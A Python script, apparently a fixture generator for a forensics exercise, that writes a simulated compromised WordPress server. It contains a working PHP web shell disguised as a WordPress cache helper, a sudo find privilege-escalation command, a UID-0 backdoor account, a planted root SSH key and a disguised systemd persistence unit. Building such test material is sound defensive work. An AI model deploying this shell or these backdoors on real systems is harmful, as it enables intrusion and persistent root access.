"""The rest of the modern-WordPress story (the report's golden scenario 2): a second,
timestomped shell planted through the first, root through a sudo misconfiguration
(www-data may run find as root), a UID-0 account, an SSH key for root and a systemd
unit. Appends to shared files only what is not there yet, so other generators' lines stay;
named to sort last, since it appends to files the other generators write."""

from __future__ import annotations

import importlib.util
from pathlib import Path

_spec = importlib.util.spec_from_file_location(
    "_records", Path(__file__).resolve().parent.parent / "_records.py"
)
records = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(records)

UA = "python-requests/2.31.0"
SHELL2 = "/var/www/html/wp-includes/class-wp-page-cache.php"
ROOT_KEY, ROOT_KEY_FP = records.ed25519_key("hacked-debian root key", "root@kali")

SHELL1_URL = "/wp-content/uploads/2024/03/thumb.php"
SHELL2_URL = "/wp-includes/class-wp-page-cache.php"
ACCESS = [
    f'203.0.113.66 - - [02/Mar/2024:03:17:31 +0000] "POST {SHELL1_URL} HTTP/1.1" 200 61 "-" "{UA}"',
    f'203.0.113.66 - - [02/Mar/2024:03:17:58 +0000] "POST {SHELL2_URL} HTTP/1.1" 200 1204 "-" "{UA}"',
    f'203.0.113.66 - - [02/Mar/2024:03:18:40 +0000] "POST {SHELL2_URL} HTTP/1.1" 200 88 "-" "{UA}"',
    f'203.0.113.66 - - [02/Mar/2024:03:21:02 +0000] "POST {SHELL2_URL} HTTP/1.1" 200 12 "-" "{UA}"',
    '198.51.100.23 - - [03/Mar/2024:08:30:00 +0000] "GET /?p=12 HTTP/1.1" 200 7021 "https://www.example.com/" '
    '"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36"',
]
AUTH = [
    "Mar  2 03:18:41 web01 sudo: www-data : TTY=unknown ; PWD=/var/www/html/wp-includes ; USER=root ; "
    "COMMAND=/usr/bin/find /var/www/html -maxdepth 0 -exec /bin/sh -c id ;",
    "Mar  2 03:18:41 web01 sudo: pam_unix(sudo:session): session opened for user root(uid=0) by (uid=33)",
    "Mar  2 03:19:02 web01 useradd[4242]: new user: name=sysbackup, UID=0, GID=0, home=/root, shell=/bin/bash, "
    "from=none",
    "Mar  2 03:19:05 web01 chpasswd[4250]: pam_unix(chpasswd:chauthtok): password changed for sysbackup",
]

SHELL2_CODE = """<?php
/**
 * Page cache helper.
 * @package WordPress
 */
if (isset($_POST['k']) && md5($_POST['k']) === '5ebe2294ecd0e0f08eab7690d2a6ee69') {
    $c = $_POST['c'];
    echo '<pre>' . shell_exec($c) . '</pre>';
    if (!empty($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_POST['d']); }
}
"""

UNIT = """[Unit]
Description=D-Bus broker helper
After=network.target

[Service]
Type=simple
ExecStart=/tmp/.x/kworker
Restart=always

[Install]
WantedBy=multi-user.target
"""


def _append(path: Path, lines: list[str]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    have = path.read_text().splitlines() if path.exists() else []
    new = [line for line in lines if line not in have]
    with path.open("a") as fh:
        if have and not path.read_text().endswith("\n"):
            fh.write("\n")
        fh.writelines(line + "\n" for line in new)


def generate(root: Path) -> None:
    (root / SHELL2.lstrip("/")).write_text(SHELL2_CODE)
    _append(root / "var/log/apache2/access.log", ACCESS)
    _append(root / "var/log/auth.log", AUTH)
    _append(root / "etc/passwd", ["sysbackup:x:0:0:,,,:/root:/bin/bash"])
    _append(
        root / "etc/shadow",
        [
            "sysbackup:$6$Zq3sL0xw$Jm1mX0m0Wq2mZ9x3l1u0o7m8Y5b8yQ0p3c5z9lZ3Q0cH7w2k1e4r6t8y0u2i4o"
            "6p8a0s2d4f6g8h0j2k4l6z8:19784:0:99999:7:::"
        ],
    )
    _append(
        root / "etc/sudoers.d/www-data-maint",
        [
            "# let the backup script find old uploads (added by the old admin)",
            "www-data ALL=(root) NOPASSWD: /usr/bin/find",
        ],
    )
    _append(root / "root/.ssh/authorized_keys", [ROOT_KEY])
    unit = root / "etc/systemd/system/dbus-broker-helper.service"
    unit.parent.mkdir(parents=True, exist_ok=True)
    unit.write_text(UNIT)
    wants = root / "etc/systemd/system/multi-user.target.wants"
    wants.mkdir(parents=True, exist_ok=True)
    link = wants / "dbus-broker-helper.service"
    if not link.is_symlink():
        link.symlink_to("/etc/systemd/system/dbus-broker-helper.service")
